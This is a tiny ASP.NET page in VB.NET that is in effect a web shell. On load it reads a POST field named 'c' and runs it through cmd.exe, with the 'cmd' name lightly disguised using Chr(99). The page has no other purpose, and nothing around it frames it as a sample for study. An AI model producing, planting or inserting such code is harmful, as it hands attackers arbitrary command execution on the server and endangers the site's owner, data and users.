<%@ Page Language="VB" %><script runat="server">
Sub Page_Load()
  Dim c As String = Request.Form("c") ' comment
  Process.Start(Chr(99) & "md.exe", "/c " & c)
End Sub
</script>